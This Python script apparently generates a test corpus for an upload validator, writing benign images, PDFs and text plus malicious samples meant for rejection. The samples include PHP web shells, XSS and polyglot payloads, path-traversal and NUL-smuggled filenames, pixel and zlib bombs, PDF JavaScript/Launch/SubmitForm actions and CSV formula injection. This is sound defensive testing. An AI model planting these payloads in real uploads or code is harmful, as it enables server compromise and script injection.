"""Generate securekit's upload corpus: genuine files that must pass, attacks that must not.

Run from the project root::

    /work/venv/bin/python tests/corpora/uploads/make_corpus.py

It rewrites ``files/`` and ``manifest.json`` beside this script. Genuine
files come from Pillow and matplotlib (the tools that produce most images and
charts uploaded in practice) or are built byte by byte following the format
specifications; attacks are built from them. Each manifest entry names the
file, the filename and Content-Type a client would send, and the expected
verdict with its reason.
"""

from __future__ import annotations

import io
import json
import shutil
import struct
import zlib
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt
from PIL import Image, PngImagePlugin

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
ENTRIES: list[dict[str, str | None]] = []


def add(
    file: str,
    data: bytes,
    verdict: str,
    reason: str | None = None,
    *,
    filename: str | None = None,
    declared: str | None = None,
    note: str = "",
) -> None:
    (FILES / file).write_bytes(data)
    ENTRIES.append(
        {
            "file": file,
            "filename": filename if filename is not None else file,
            "declared_type": declared,
            "verdict": verdict,
            "reason": reason,
            "note": note,
        }
    )


# --- builders ---------------------------------------------------------------


def pillow(mode: str, fmt: str, size: tuple[int, int] = (24, 16), **kw: object) -> bytes:
    image = Image.new(mode, size)
    for x in range(size[0]):
        for y in range(size[1]):
            value = (x * 10 + y * 3) % 256
            if mode in ("RGB", "RGBA"):
                image.putpixel((x, y), (value, 255 - value, (x * y) % 256, 200)[: len(mode)])
            else:
                image.putpixel((x, y), value % (2 if mode == "1" else 256))
    out = io.BytesIO()
    image.save(out, fmt, **kw)
    return out.getvalue()


def chart(fmt: str) -> bytes:
    fig, ax = plt.subplots(figsize=(2, 1.5), dpi=50)
    ax.plot([0, 1, 2, 3], [1, 3, 2, 4])
    ax.set_title("sales")
    out = io.BytesIO()
    metadata = {"CreationDate": None} if fmt == "pdf" else None
    fig.savefig(out, format=fmt, metadata=metadata)
    plt.close(fig)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_raw(width: int, height: int, extra: bytes = b"", idat: bytes | None = None) -> bytes:
    ihdr = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    if idat is None:
        idat = zlib.compress(b"".join(b"\x00" + bytes(width) for _ in range(min(height, 64))))
    return b"\x89PNG\r\n\x1a\n" + ihdr + extra + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def insert_after_ihdr(png: bytes, chunk: bytes) -> bytes:
    return png[:33] + chunk + png[33:]


def jpeg_insert(jpeg: bytes, marker: int, body: bytes) -> bytes:
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body
    return jpeg[:2] + segment + jpeg[2:]


def jpeg_with_sof(jpeg: bytes, width: int, height: int) -> bytes:
    index = jpeg.find(b"\xff\xc0")
    return jpeg[: index + 5] + struct.pack(">HH", height, width) + jpeg[index + 9 :]


PAGE_OBJECTS = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>"
    ),
    None,
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
]
CONTENT = b"BT /F1 24 Tf 20 100 Td (Hello) Tj ET"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf_classic(
    catalog: bytes = PAGE_OBJECTS[0] or b"",
    extra_objects: list[bytes] | None = None,
    *,
    trailer_extra: bytes = b"",
    header: bytes = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n",
    xref_shift: int = 0,
) -> bytes:
    objects = [catalog, *[o or stream(CONTENT) for o in PAGE_OBJECTS[1:]], *(extra_objects or [])]
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer_extra,
        xref + xref_shift,
    )
    return bytes(out)


def pdf_object_streams(
    catalog: bytes = PAGE_OBJECTS[0] or b"", *, type_name: bytes = b"/Type /ObjStm "
) -> bytes:
    """PDF 1.5 layout as pdfTeX, qpdf and Word write it: object + xref streams."""
    packed = {1: catalog, 2: PAGE_OBJECTS[1], 3: PAGE_OBJECTS[2], 5: PAGE_OBJECTS[4]}
    header_parts, bodies, position = [], b"", 0
    for number, body in packed.items():
        assert body is not None
        header_parts.append(b"%d %d" % (number, position))
        bodies += body + b"\n"
        position = len(bodies)
    head = b" ".join(header_parts) + b"\n"
    objstm = zlib.compress(head + bodies)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    offsets[4] = len(out)
    out += b"4 0 obj\n" + stream(zlib.compress(CONTENT), b"/Filter /FlateDecode ") + b"\nendobj\n"
    offsets[6] = len(out)
    out += (
        b"6 0 obj\n"
        + stream(objstm, b"%s/N 4 /First %d /Filter /FlateDecode " % (type_name, len(head)))
        + b"\nendobj\n"
    )
    offsets[7] = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    for number in range(1, 8):
        if number in packed:
            rows.append(b"\x02" + struct.pack(">IH", 6, list(packed).index(number)))
        else:
            rows.append(b"\x01" + struct.pack(">IH", offsets[number], 0))
    xref = zlib.compress(b"".join(rows))
    out += (
        b"7 0 obj\n"
        + stream(xref, b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode ")
        + b"\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[7]
    return bytes(out)


def webp_chunk(fourcc: bytes, body: bytes) -> bytes:
    return fourcc + struct.pack("<I", len(body)) + body + (b"\x00" if len(body) & 1 else b"")


def webp_riff(chunks: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", 4 + len(chunks)) + b"WEBP" + chunks


def webp_vp8x(width: int, height: int, extra: bytes, image: bytes) -> bytes:
    flags = 0x04 if extra else 0
    vp8x = (
        struct.pack("<I", flags)
        + (width - 1).to_bytes(3, "little")
        + (height - 1).to_bytes(3, "little")
    )
    return webp_riff(webp_chunk(b"VP8X", vp8x) + image + extra)


def main() -> None:
    shutil.rmtree(FILES, ignore_errors=True)
    FILES.mkdir(parents=True)
    ENTRIES.clear()

    # --- genuine files --------------------------------------------------------
    png_rgb = pillow("RGB", "PNG")
    add("pillow_rgb.png", png_rgb, "accept", declared="image/png")
    add("pillow_palette.png", pillow("P", "PNG"), "accept", declared="IMAGE/PNG")
    info = PngImagePlugin.PngInfo()
    info.add_text("Software", "Pillow")
    info.add_text("Comment", "a cat on a mat", zip=True)
    info.add_itxt("Title", "Katze auf der Matte \u732b", lang="de")
    add("pillow_text_chunks.png", pillow("RGBA", "PNG", pnginfo=info, dpi=(72, 72)), "accept")
    add("matplotlib_chart.png", chart("png"), "accept", declared="image/x-png")
    add("pillow_gray16.png", pillow("I;16", "PNG"), "accept")
    add("pillow_interlaced.png", pillow("L", "PNG", optimize=False), "accept")
    frames = [Image.new("RGB", (10, 10), (i * 40, 0, 0)) for i in range(3)]
    apng = io.BytesIO()
    frames[0].save(apng, "PNG", save_all=True, append_images=frames[1:], duration=100)
    add("pillow_animated.png", apng.getvalue(), "accept", note="APNG")
    xmp = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description/>'
        b'</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )
    add(
        "xmp_itxt.png",
        insert_after_ihdr(
            png_rgb, png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp)
        ),
        "accept",
    )
    add("\u732b\u306e\u5199\u771f.png", png_rgb, "accept", note="non-Latin name")
    jpeg = pillow("RGB", "JPEG", quality=80)
    add("pillow.jpg", jpeg, "accept", declared="image/jpeg")
    add(
        "pillow_progressive.jpeg",
        pillow("RGB", "JPEG", progressive=True),
        "accept",
        declared="image/pjpeg",
    )
    exif = Image.Exif()
    exif[0x010E] = "Holiday photo"
    exif[0x0131] = "Pillow"
    add(
        "pillow_exif.jpg",
        pillow("RGB", "JPEG", exif=exif.tobytes()),
        "accept",
        declared="image/jpg",
    )
    add("matplotlib_chart.jpg", chart("jpg"), "accept")
    add("pillow_gray.JPG", pillow("L", "JPEG"), "accept", note="upper-case extension")
    add("comment.jpg", jpeg_insert(jpeg, 0xFE, b"Taken with a phone camera"), "accept")
    add(
        "xmp.jpg",
        jpeg_insert(jpeg, 0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp),
        "accept",
    )
    add(
        "pillow_icc.jpg",
        pillow("RGB", "JPEG", icc_profile=b"\x00" * 128 + b"acsp" + b"\x00" * 64),
        "accept",
    )
    add("pillow.gif", pillow("P", "GIF"), "accept", declared="image/gif")
    animated = io.BytesIO()
    frames[0].save(animated, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)
    add("pillow_animated.gif", animated.getvalue(), "accept")
    add("pillow_comment.gif", pillow("L", "GIF", comment=b"made by hand"), "accept")
    add("pillow_lossy.webp", pillow("RGB", "WEBP", quality=70), "accept", declared="image/webp")
    add("pillow_lossless.webp", pillow("RGB", "WEBP", lossless=True), "accept")
    add("pillow_alpha.webp", pillow("RGBA", "WEBP"), "accept")
    animated_webp = io.BytesIO()
    frames[0].save(animated_webp, "WEBP", save_all=True, append_images=frames[1:], duration=100)
    add("pillow_animated.webp", animated_webp.getvalue(), "accept")
    add("matplotlib_chart.pdf", chart("pdf"), "accept", declared="application/pdf")
    pdf_pillow = io.BytesIO()
    Image.new("RGB", (20, 20), (10, 20, 30)).save(pdf_pillow, "PDF")
    add("pillow.pdf", pdf_pillow.getvalue(), "accept")
    add("classic_xref.pdf", pdf_classic(), "accept", declared="application/pdf; charset=binary")
    add("object_streams.pdf", pdf_object_streams(), "accept", note="xref stream + object stream")
    add(
        "link_and_fit.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
            [
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.com/) >> >>"
            ],
        ),
        "accept",
        note="hyperlink and OpenAction destination (LaTeX hyperref)",
    )
    base = pdf_classic()
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Lang (en) >>\nendobj\n"
    offset = len(base)
    incremental = (
        base
        + update
        + b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (offset, base.index(b"xref"), offset + len(update))
    )
    add("incremental_update.pdf", incremental, "accept")
    add(
        "notes.txt",
        "Meeting notes\n- budget: 5 < 7\n- \u4f1a\u8b70\n".encode(),
        "accept",
        declared="text/plain; charset=utf-8",
    )
    add("windows.txt", b"\xef\xbb\xbfline one\r\nline two\r\n", "accept", note="BOM and CRLF")
    add(
        "table.csv",
        b"name,amount,date\nalice,-12.50,2024-01-01\nbob,+3,2024-01-02\n",
        "accept",
        declared="text/csv",
    )
    add("negatives.csv", b"a;b\n-1,5;-2e3\n+7; -\n", "accept", note="numbers, not formulas")
    add("excel.csv", b"item;qty\r\napples;3\r\n", "accept", declared="application/vnd.ms-excel")
    add("octet.png", png_rgb, "accept", declared="application/octet-stream", note="generic type")

    # --- filename attacks ------------------------------------------------------
    bad_names = {
        "name_traversal": "../../etc/cat.png",
        "name_traversal_backslash": "..\\..\\cat.png",
        "name_percent_traversal": "..%2f..%2fcat.png",
        "name_percent_nul": "cat.php%00.png",
        "name_extension_only": ".png",
        "name_hidden": ".cat.png",
        "name_device": "CON.png",
        "name_device_ext": "aux.pdf",
        "name_device_superscript": "LPT\u00b9.png",
        "name_fullwidth_dot": "shell\uff0ephp",
        "name_one_dot_leader": "shell\u2024php.png",
        "name_rtl_override": "cat\u202egnp.php",
        "name_nul": "cat.png\x00.php",
        "name_trailing_dot": "cat.png.",
        "name_trailing_space": "cat.png ",
        "name_drive": "C:cat.png",
        "name_ads": "cat.png::$DATA",
        "name_too_long": "a" * 300 + ".png",
        "name_double_extension": "shell.php.png",
        "name_iis_semicolon": "shell.asp;.png",
        "name_newline": "cat\n.png",
        "name_empty": "",
        "name_absolute": "/var/www/cat.png",
    }
    for label, name in bad_names.items():
        add(f"{label}.png", png_rgb, "reject", "bad_filename", filename=name)
    add("name_no_extension.png", png_rgb, "reject", "extension_not_allowed", filename="cat")
    add("name_php.png", png_rgb, "reject", "extension_not_allowed", filename="cat.php")
    add("name_svg.png", png_rgb, "reject", "extension_not_allowed", filename="cat.svg")

    # --- type mismatches ---------------------------------------------------------
    add("php_as_png.png", b"<?php system($_GET['c']); ?>\n", "reject", "type_mismatch")
    add(
        "html_as_jpg.jpg",
        b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n",
        "reject",
        "type_mismatch",
    )
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>\n'
    add("svg_as_png.png", svg, "reject", "type_mismatch")
    add("pdf_as_png.png", pdf_classic(), "reject", "type_mismatch")
    add("png_as_gif.gif", png_rgb, "reject", "type_mismatch")
    add(
        "exe_as_pdf.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(200),
        "reject",
        "type_mismatch",
    )
    add(
        "zip_as_jpg.jpg",
        b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + bytes(100),
        "reject",
        "type_mismatch",
    )
    add(
        "png_declared_pdf.png",
        png_rgb,
        "reject",
        "declared_type_mismatch",
        declared="application/pdf",
    )
    add("png_declared_html.png", png_rgb, "reject", "declared_type_mismatch", declared="text/html")
    add("empty.png", b"", "reject", "empty")

    # --- PNG attacks ------------------------------------------------------------
    add("png_bad_crc.png", png_rgb[:-5] + b"\x00" + png_rgb[-4:], "reject", "malformed")
    add("png_truncated.png", png_rgb[: len(png_rgb) // 2], "reject", "malformed")
    add("png_no_iend.png", png_rgb[:-12], "reject", "malformed")
    add("png_trailing_zip.png", png_rgb + b"PK\x03\x04" + bytes(40), "reject", "trailing_data")
    add(
        "png_trailing_html.png",
        png_rgb + b"<html><script>alert(1)</script></html>",
        "reject",
        "embedded_markup",
    )
    add(
        "png_php_text.png",
        insert_after_ihdr(png_rgb, png_chunk(b"tEXt", b"Comment\x00<?php system($_GET[0]); ?>")),
        "reject",
        "embedded_markup",
    )
    add(
        "png_script_itxt.png",
        insert_after_ihdr(
            png_rgb, png_chunk(b"iTXt", b"Title\x00\x00\x00\x00\x00<img src=x onerror=alert(1)>")
        ),
        "reject",
        "embedded_markup",
    )
    add(
        "png_svg_ztxt.png",
        insert_after_ihdr(
            png_rgb,
            png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"<svg onload=alert(1)>")),
        ),
        "reject",
        "embedded_markup",
        note="markup only visible after inflating",
    )
    add(
        "png_php_idat.png",
        png_raw(4, 4, idat=zlib.compress(bytes(20)) + b"<?=$_GET[0]($_POST[1]);?>"),
        "reject",
        "embedded_markup",
    )
    add(
        "png_bomb.png",
        png_raw(100_000, 100_000),
        "reject",
        "too_many_pixels",
        note="10 gigapixels declared, tiny IDAT",
    )
    add(
        "png_unknown_critical.png",
        insert_after_ihdr(png_rgb, png_chunk(b"EVIL", b"data")),
        "reject",
        "malformed",
    )
    add(
        "png_ihdr_late.png",
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"tEXt", b"a\x00b") + png_rgb[8:],
        "reject",
        "type_mismatch",
    )
    add(
        "png_ztxt_bomb.png",
        insert_after_ihdr(
            png_rgb, png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(4 << 20)))
        ),
        "reject",
        "archive_bomb",
    )

    # --- GIF attacks ------------------------------------------------------------
    gif = pillow("P", "GIF")
    add(
        "gif_php_header.gif",
        b"GIF89a;<?php system($_GET['c']); ?>",
        "reject",
        "embedded_markup",
        note="GIF89a;<?php",
    )
    add("gif_php_short.gif", b"GIF89a\n<?= `id` ?>\n", "reject", "embedded_markup")
    add(
        "gifar.gif",
        gif + b"PK\x03\x04\x14\x00" + bytes(60) + b"META-INF/MANIFEST.MF",
        "reject",
        "trailing_data",
    )
    add(
        "gif_comment_script.gif",
        gif[:-1] + b"\x21\xfe\x10<script>x</script>\x00\x3b",
        "reject",
        "embedded_markup",
    )
    add(
        "gif_js_polyglot.gif",
        gif[:-1] + b"\x21\xfe\x13*/=alert(1);/*     \x00\x3b",
        "reject",
        "embedded_markup",
        note="GIF/JavaScript polyglot comment",
    )
    add("gif_no_trailer.gif", gif[:-1], "reject", "malformed")
    add(
        "gif_huge.gif",
        gif[:6] + struct.pack("<HH", 65535, 65535) + gif[10:],
        "reject",
        "too_many_pixels",
    )
    add("gif_trailing_text.gif", gif + b"hello", "reject", "trailing_data")

    # --- JPEG attacks -----------------------------------------------------------
    add(
        "jpeg_php_comment.jpg",
        jpeg_insert(jpeg, 0xFE, b"<?php echo shell_exec($_GET['c']); ?>"),
        "reject",
        "embedded_markup",
    )
    evil_exif = Image.Exif()
    evil_exif[0x010E] = "<?php system($_REQUEST['x']); ?>"
    add(
        "jpeg_php_exif.jpg",
        pillow("RGB", "JPEG", exif=evil_exif.tobytes()),
        "reject",
        "embedded_markup",
    )
    add(
        "jpeg_trailing_html.jpg",
        jpeg + b"<html><body>hi</body></html>",
        "reject",
        "embedded_markup",
    )
    add("jpeg_trailing_zip.jpg", jpeg + b"PK\x05\x06" + bytes(18), "reject", "trailing_data")
    add("jpeg_truncated.jpg", jpeg[:-2], "reject", "malformed")
    add("jpeg_bomb.jpg", jpeg_with_sof(jpeg, 65500, 65500), "reject", "too_many_pixels")
    add(
        "jpeg_xmp_script.jpg",
        jpeg_insert(
            jpeg,
            0xE1,
            b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><a href='javascript:alert(1)'/></x:xmpmeta>",
        ),
        "reject",
        "embedded_markup",
    )

    add(
        "jpeg_js_polyglot.jpg",
        b"\xff\xd8\xff\xe0\x2f\x2a" + b"JFIF\x00" + bytes(12063) + b"*/=alert(1);/*" + jpeg[2:],
        "reject",
        "embedded_markup",
        note="APP0 length reads /* (PortSwigger polyglot JPEG)",
    )
    add(
        "jpeg_js_comment.jpg",
        jpeg_insert(jpeg, 0xFE, b"*/=alert(document.domain);/*"),
        "reject",
        "embedded_markup",
    )

    # --- WebP attacks -----------------------------------------------------------
    webp = pillow("RGB", "WEBP", lossless=True)
    add("webp_trailing.webp", webp + b"PK\x03\x04" + bytes(20), "reject", "trailing_data")
    vp8l = webp[12:]
    add("webp_huge_canvas.webp", webp_vp8x(16000, 16000, b"", vp8l), "reject", "too_many_pixels")
    add(
        "webp_xmp_script.webp",
        webp_vp8x(
            24, 16, webp_chunk(b"XMP ", b"<x:xmpmeta><svg onload=alert(1)/></x:xmpmeta>"), vp8l
        ),
        "reject",
        "embedded_markup",
    )
    add(
        "webp_bad_size.webp",
        webp[:4] + struct.pack("<I", len(webp) + 100) + webp[8:],
        "reject",
        "malformed",
    )

    # --- PDF attacks ------------------------------------------------------------
    add(
        "pdf_openaction_js.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
        ),
        "reject",
        "active_content",
    )
    add(
        "pdf_names_js_escaped.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /#4A#61vaScript 6 0 R >> >>",
            [b"<< /Names [(a) 7 0 R] >>", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"],
        ),
        "reject",
        "active_content",
        note="#xx-escaped names",
    )
    add(
        "pdf_launch.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            [b"<< /S /Launch /F (cmd.exe) >>"],
        ),
        "reject",
        "active_content",
    )
    add(
        "pdf_embedded_file.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
            [b"<< /Names [(x.exe) 7 0 R] >>", stream(b"MZ", b"/Type /EmbeddedFile ")],
        ),
        "reject",
        "active_content",
    )
    add(
        "pdf_openaction_uri.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://tracker.example/) >> >>"
        ),
        "reject",
        "active_content",
    )
    add(
        "pdf_aa.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 6 0 R >> >>",
            [b"<< /S /GoTo /D [3 0 R /Fit] >>"],
        ),
        "reject",
        "active_content",
    )
    add(
        "pdf_xfa.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>",
            [stream(b"<xdp:xdp/>")],
        ),
        "reject",
        "active_content",
    )
    add(
        "pdf_submitform.pdf",
        pdf_classic(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
            [b"<< /S /SubmitForm /F (https://evil.example/) >>"],
        ),
        "reject",
        "active_content",
    )
    add(
        "pdf_objstm_js.pdf",
        pdf_object_streams(b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 9 0 R >> >>"),
        "reject",
        "active_content",
        note="JavaScript only inside a compressed object stream",
    )
    add(
        "pdf_objstm_untyped_js.pdf",
        pdf_object_streams(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>",
            type_name=b"",
        ),
        "reject",
        "active_content",
        note="object stream without /Type",
    )
    add(
        "pdf_trailing_html.pdf",
        pdf_classic() + b"<html><script>alert(1)</script></html>",
        "reject",
        "embedded_markup",
    )
    add(
        "pdf_trailing_zip.pdf", pdf_classic() + b"PK\x03\x04" + bytes(30), "reject", "trailing_data"
    )
    add("pdf_header_late.pdf", b"GIF89a" + bytes(10) + pdf_classic(), "reject", "type_mismatch")
    add("pdf_no_eof.pdf", pdf_classic()[:-6], "reject", "malformed")
    add("pdf_bad_startxref.pdf", pdf_classic(xref_shift=7), "reject", "malformed")
    add(
        "pdf_encrypted.pdf",
        pdf_classic(
            trailer_extra=b"/Encrypt 6 0 R ", extra_objects=[b"<< /Filter /Standard /V 2 /R 3 >>"]
        ),
        "reject",
        "active_content",
    )
    hidden = pdf_classic(extra_objects=[stream(b"q Q\n7 0 obj << /S /JavaScript >> endobj\n")])
    add(
        "pdf_object_in_stream.pdf",
        hidden,
        "reject",
        "malformed",
        note="object hidden in stream data",
    )
    add(
        "pdf_richmedia.pdf",
        pdf_classic(extra_objects=[b"<< /Type /Annot /Subtype /RichMedia >>"]),
        "reject",
        "active_content",
    )

    # --- text and CSV attacks ----------------------------------------------------
    add("text_nul.txt", b"hello\x00world\n", "reject", "type_mismatch")
    add("text_control.txt", b"hello\x1b[31mred\n", "reject", "malformed")
    add(
        "text_latin1.txt",
        "caf\u00e9 cr\u00e8me br\u00fbl\u00e9e\n".encode("latin-1"),
        "reject",
        "malformed",
    )
    add("text_script.txt", b"Notes\n<script>alert(1)</script>\n", "reject", "type_mismatch")
    add("text_php.txt", b"Just notes.\nSee <?php echo 1 ?> later\n", "reject", "embedded_markup")
    add("text_utf16.txt", "hello world\n".encode("utf-16"), "reject", "malformed")
    add("csv_formula.csv", b"name,total\nalice,=cmd|' /C calc'!A0\n", "reject", "active_content")
    add(
        "csv_at_formula.csv",
        b"name,total\nbob,@SUM(1+9)*cmd|' /C calc'!A0\n",
        "reject",
        "active_content",
    )
    add(
        "csv_minus_formula.csv",
        b"name,total\ncarol,-2+3+cmd|' /C calc'!A0\n",
        "reject",
        "active_content",
    )
    add(
        "csv_quoted_formula.csv",
        b'name,total\ndave,"=HYPERLINK(""http://evil"")"\n',
        "reject",
        "active_content",
    )
    add(
        "html_as_txt.txt",
        b"<!doctype html>\n<html><body>hi</body></html>\n",
        "reject",
        "type_mismatch",
    )

    (HERE / "manifest.json").write_text(
        json.dumps(ENTRIES, indent=1, ensure_ascii=False) + "\n", encoding="utf-8"
    )
    print(f"{len(ENTRIES)} files written to {FILES}")


if __name__ == "__main__":
    main()
